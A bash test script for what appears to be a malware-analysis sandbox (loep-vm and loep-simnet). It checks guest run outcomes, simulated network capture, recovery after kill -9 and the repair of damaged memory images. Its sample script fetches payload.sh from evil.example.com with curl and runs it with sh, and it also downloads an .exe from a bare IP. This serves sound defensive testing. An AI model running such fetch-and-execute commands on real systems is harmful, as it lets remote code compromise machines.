#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# loep-vm and loep-simnet with a real guest, as vmdrive wires them: the cycle
# of a slot, every way in which a guest can end its run, the network that it
# sees, kill -9 of either program, and what is reused after it.
# shellcheck disable=SC2154 # drive.sh assigns them
. "$(dirname "$0")/drive.sh"

cat >"$work/s/net.sh" <<-'EOF'
	#!/bin/sh
	echo "the sample runs"
	curl -s -m 20 -A bot/1.0 http://evil.example.com/payload.sh -o /tmp/p.sh
	sh /tmp/p.sh && echo "payload ran"
	curl -s -m 20 http://93.184.216.34:8080/x.exe -o /tmp/x.exe
	head -c 2 /tmp/x.exe
	curl -s -m 20 -k https://tls.example.org/
	python3 -c '
	import socket
	s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
	s.settimeout(10)
	s.sendto(bytes.fromhex("0800f7fd00010001"), ("1.2.3.4", 0))
	print("answered by", s.recvfrom(99)[1][0])'
	exit 0
EOF
printf '#!/bin/sh\nsleep 600\n' >"$work/s/sleep.sh"
printf '#!/bin/sh\nsystemctl poweroff -ff; sleep 60\n' >"$work/s/off.sh"
printf '#!/bin/sh\nsystemctl reboot -ff; sleep 60\n' >"$work/s/boot.sh"
printf 'MZ\220\000 not for this system' >"$work/s/windows.exe"
: >"$work/s/empty"
t=$work/s/o

# --- 1: the first boot, and a run of each kind ---------------------------
go "a slot is built and serves one run after the other" \
    ready 1200 \
    run "$work/s/net.sh" '{"seconds":90}' "$t.net" \
    run "$work/s/sleep.sh" '{"seconds":4}' "$t.sleep" \
    run "$work/s/off.sh" '{"seconds":60}' "$t.off" \
    run "$work/s/boot.sh" '{"seconds":60}' "$t.boot" \
    run "$work/s/windows.exe" '{"seconds":20}' "$t.exe" \
    run "$work/s/empty" '{"seconds":20}' "$t.empty" \
    run "$work/s/net.sh" '{"seconds":60,"network":"none"}' "$t.none"
run 2 .outcome "done" "a script runs to its end"
run 2 '.environment.proof.is_closed' true "closed egress was proved before"
run 2 '.environment.network.names[0].name' evil.example.com "the name it asked for"
run 2 '[.environment.network.connections[] | select(.path == "/payload.sh")][0] |
    .method + " " + .host + " " + .user_agent' "GET evil.example.com bot/1.0" \
    "the request it made"
run 2 '[.environment.network.connections[] | select(.port == 8080)][0].path' /x.exe \
    "a request to a bare address"
run 2 '[.environment.network.connections[] | select(.app == "tls")][0].host' \
    tls.example.org "the server name in TLS"
run 2 '[.environment.network.connections[] | select(.proto == "icmp")][0].address' \
    1.2.3.4 "the address it pinged"
grep -aq 'answered by 1.2.3.4' "$t.net.trace"
ok $? "which answered"
[ "$(od -An -tx4 -N4 "$t.net.pcap" | tr -d ' ')" = a1b2c3d4 ]
ok $? "the capture is a pcap file"
run 2 '.environment.outputs.pcap' "$(stat -c %s "$t.net.pcap")" "its size is told"
run 2 '.environment.outputs.trace' "$(stat -c %s "$t.net.trace")" \
    "the size of the trace is told"
grep -aq 'payload ran' "$t.net.trace"
ok $? "what the network served ran in the guest"
run 3 .outcome timeout "what stays resident meets its time limit"
run 4 .outcome guest_powered_off "a guest that powers off"
run 5 .outcome guest_powered_off "a guest that reboots"
run 6 .outcome sample_not_executed "a program of another system"
run 7 .outcome sample_not_executed "an empty file"
run 8 '.environment.network.names | length' 0 "without a network no name resolves"
run 8 '.environment.outputs.pcap > 24' true "but what it tried is captured"
echo "# overhead_ms of run 2..8: $(sed -n 2,8p "$work/out" |
    jq -r .environment.timing.overhead_ms | tr '\n' ' ')"
[ "$(qemus)" = 0 ]
ok $? "no QEMU is left after the end"

# --- 2: kill -9 --------------------------------------------------------
go "after kill -9 the pool comes back by itself" \
    ready 1200 \
    start "$work/s/sleep.sh" '{"seconds":300}' "$t.k1" \
    state running 300 \
    kill vm \
    ready 300 \
    run "$work/s/net.sh" '{"seconds":60}' "$t.k2" \
    kill simnet \
    run "$work/s/net.sh" '{"seconds":60}' "$t.k3" \
    start "$work/s/sleep.sh" '{"seconds":300}' "$t.k4" \
    state running 300 cancel end 60
run 1 '.ready_ms < 90000' true "a saved memory image is used again"
run 2 '.ready_ms < 90000' true "also after a kill"
run 3 .outcome "done" "a run after loep-vm was killed"
run 4 .outcome "done" "a run after loep-simnet was killed"
run 5 .outcome cancelled "a run that is cancelled"
[ "$(qemus)" = 0 ]
ok $? "no QEMU is left"

# --- 3: damage ---------------------------------------------------------
head -c 5000 /dev/urandom >"$work/state/vm/slots/0/memory.save"
go "a slot whose memory image is damaged repairs itself" \
    ready 1200 \
    run "$work/s/net.sh" '{"seconds":60}' "$t.d1" \
    state ready 1200 \
    run "$work/s/net.sh" '{"seconds":60}' "$t.d2"
run 2 .outcome vm_failed "the run that met it says so"
run 3 .outcome "done" "the next one runs"
find "$work/state/vm/quarantine" -name reason | grep -q .
ok $? "the evidence of the failure was kept"
echo "1..$count"
